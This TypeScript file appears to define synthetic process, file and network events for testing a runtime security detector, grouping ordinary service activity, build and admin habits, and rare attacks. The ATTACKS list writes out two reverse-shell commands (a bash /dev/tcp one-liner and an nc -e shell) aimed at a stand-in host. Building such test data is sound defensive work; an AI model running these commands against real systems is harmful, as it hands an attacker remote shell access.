/**
 * What the workload's resources do, as the parts of a native event that say what happened.
 * Weights are shares of their group. Whether something matches a rule is not decided here but by the
 * rules: the run counts it.
 */

export interface Behaviour {
  name: string;
  weight: number;
  kind: "process" | "file" | "network";
  action: string;
  process: {
    exe: string;
    args: readonly string[];
    parent: string;
    tty?: boolean;
  };
  file?: { path: string; flags: string };
  network?: { ip: string; port: number; protocol: string; direction: "outbound" };
}

function exec(
  weight: number,
  exe: string,
  args: readonly string[],
  parent: string,
  tty = false,
): Behaviour {
  return {
    name: exe.slice(exe.lastIndexOf("/") + 1),
    weight,
    kind: "process",
    action: "exec",
    process: { exe, args, parent, tty },
  };
}

/** What a service does all day. */
export const ORDINARY: readonly Behaviour[] = [
  exec(14, "/usr/local/bin/node", ["/srv/app/worker.js", "--queue", "orders"], "/usr/bin/tini"),
  exec(12, "/bin/sh", ["-c", "test -f /tmp/healthy"], "/usr/bin/runc"),
  exec(8, "/usr/bin/curl", ["-fsS", "http://127.0.0.1:8080/healthz"], "/bin/sh"),
  exec(8, "/usr/bin/cat", ["/proc/self/status"], "/bin/sh"),
  exec(8, "/usr/bin/date", ["+%s"], "/bin/sh"),
  exec(6, "/usr/bin/python3", ["-m", "app.report", "--since", "1h"], "/usr/sbin/cron"),
  exec(6, "/usr/bin/grep", ["-c", "ERROR", "/var/log/app.log"], "/bin/sh"),
  exec(5, "/usr/sbin/nginx", ["-g", "daemon off;"], "/docker-entrypoint.sh"),
  exec(5, "/usr/bin/java", ["-Xmx512m", "-jar", "/opt/billing.jar"], "/usr/bin/tini"),
  exec(4, "/usr/bin/sleep", ["5"], "/bin/sh"),
  {
    ...exec(12, "/usr/local/bin/node", [], "/usr/bin/tini"),
    name: "node opens a file",
    kind: "file",
    action: "open",
    file: { path: "/srv/app/templates/order.html", flags: "O_RDONLY" },
  },
  {
    ...exec(12, "/usr/local/bin/node", [], "/usr/bin/tini"),
    name: "node calls its database",
    kind: "network",
    action: "connect",
    network: { ip: "10.20.4.17", port: 5432, protocol: "tcp", direction: "outbound" },
  },
];

/** What posture is about. Each resource has a few of these as its habits. */
export const HABITS: readonly Behaviour[] = [
  exec(14, "/usr/bin/gcc", ["-O2", "-fPIC", "-c", "native.c", "-o", "native.o"], "/usr/bin/make"),
  exec(8, "/usr/bin/make", ["-j2", "all"], "/usr/bin/python3"),
  exec(14, "/usr/bin/apt-get", ["install", "-y", "--no-install-recommends", "jq"], "/bin/sh"),
  exec(8, "/usr/local/bin/pip", ["install", "-r", "requirements.txt"], "/entrypoint.sh"),
  exec(8, "/usr/local/bin/npm", ["ci", "--omit=dev"], "/entrypoint.sh"),
  exec(14, "/bin/sh", [], "/usr/bin/runc", true),
  exec(6, "/bin/bash", ["-l"], "/usr/bin/runc", true),
  exec(
    12,
    "/usr/bin/curl",
    ["-s", "http://169.254.169.254/latest/meta-data/placement/availability-zone"],
    "/srv/app/refresh.sh",
  ),
  {
    ...exec(12, "/usr/bin/python3", ["-m", "app.aws"], "/usr/bin/tini"),
    name: "python3 calls the metadata service",
    kind: "network",
    action: "connect",
    network: { ip: "169.254.169.254", port: 80, protocol: "tcp", direction: "outbound" },
  },
];

/** Rare: what raises a signal. */
export const ATTACKS: readonly Behaviour[] = [
  exec(3, "/bin/bash", ["-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], "/usr/local/bin/node"),
  exec(1, "/usr/bin/nc", ["-e", "/bin/sh", "203.0.113.9", "4444"], "/bin/sh"),
];
